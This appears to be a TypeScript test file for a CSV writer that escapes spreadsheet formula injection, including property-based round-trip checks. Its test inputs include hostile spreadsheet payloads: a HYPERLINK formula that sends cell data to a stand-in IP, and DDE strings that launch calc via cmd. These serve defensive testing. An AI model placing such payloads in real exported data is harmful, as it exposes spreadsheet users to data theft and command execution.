import { readdir, readFile } from "node:fs/promises";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { expect, test } from "vitest";
import { csvCell, readCsvCell } from "./csv-cells.ts";
import { formatCsv } from "./csv-output.ts";

test.each([
  '=HYPERLINK("http://203.0.113.9/?q="&A1,"open")',
  "@SUM(1+1)*cmd|calc",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  "'=1+1",
  '"=1+1',
  "\uff1d1+1",
  "\uff0b1+1",
  "\uff0d1+1",
  "\uff201+1",
  "\u22121+1",
  "\u200b=1+1",
  "\ufeff=1+1",
])("a cell that a spreadsheet would run is text: %j", (text) => {
  const cell = csvCell(text);
  expect(cell).toMatch(/^['\\]/);
  expect(readCsvCell(cell)).toBe(text);
});

test("a cell does not become two where semicolons part cells", () => {
  for (const text of ["a;=1+1", "a; @SUM(1)", 'a;"=1', "a;'=1"]) {
    const cell = csvCell(text);
    for (const part of cell.split(";")) expect(part).not.toMatch(/^[\s'"]*[=@+-]/);
    expect(readCsvCell(cell)).toBe(text);
  }
});

test.each([
  "+4533123456",
  "+4533123***",
  "-17",
  "+0.5",
  "42",
  "cdr-4711",
  "a = b",
  "it's",
  "-",
  "'quoted'",
  "C:\\users",
  "\\u{41}",
  "",
])("a number, and any text that is no formula, stays as it is: %j", (text) => {
  expect(csvCell(text)).toBe(text);
  expect(readCsvCell(text)).toBe(text);
});

test("characters that are not seen are escapes, so that a row is a line", () => {
  const cell = csvCell("a\u001b[2J\nb\u009b1m\u202ec\u2028d\u0007");
  expect(cell).toBe("a\\u{1b}[2J\\u{a}b\\u{9b}1m\\u{202e}c\\u{2028}d\\u{7}");
});

test("what is written is read back the same, whatever it is", () => {
  const hostile = fc.string({
    unit: fc.constantFrom(
      "'",
      '"',
      "=",
      "+",
      "-",
      "@",
      ";",
      ",",
      " ",
      "\\",
      "u",
      "{",
      "}",
      "1",
      "b",
      "5c",
      "3d",
      "\n",
      "\u001b",
      "\uff1d",
      "\u2028",
    ),
  });
  fc.assert(
    fc.property(
      fc.array(fc.oneof(hostile, fc.string({ unit: "grapheme" })), { minLength: 1, maxLength: 5 }),
      (texts) => {
        const columns = texts.map((_, at) => ({ title: `c${at}`, read: (row: readonly string[]) => row[at] }));
        const csv = formatCsv(columns, [texts]);
        const [, row = []] = parse(csv, { trim: true, relax_column_count: true }) as string[][];
        expect(row.map(readCsvCell)).toEqual(texts);
        for (const cell of row) if (!/^[+-]?[0-9.]+\**$/.test(cell)) expect(cell).not.toMatch(/^[\s"]*[=+\-@\uff1d]./);
      },
    ),
    { numRuns: 2_000 },
  );
});

test("every CSV that the command line writes goes through the one writer", async () => {
  const folder = new URL("../", import.meta.url);
  const files = (await readdir(folder, { recursive: true })).filter(
    (file) => file.endsWith(".ts") && !file.endsWith(".test.ts"),
  );
  for (const file of files) {
    const text = await readFile(new URL(file, folder), "utf8");
    if (file !== "shared/csv-output.ts") expect(text, file).not.toContain("csv-stringify");
  }
});
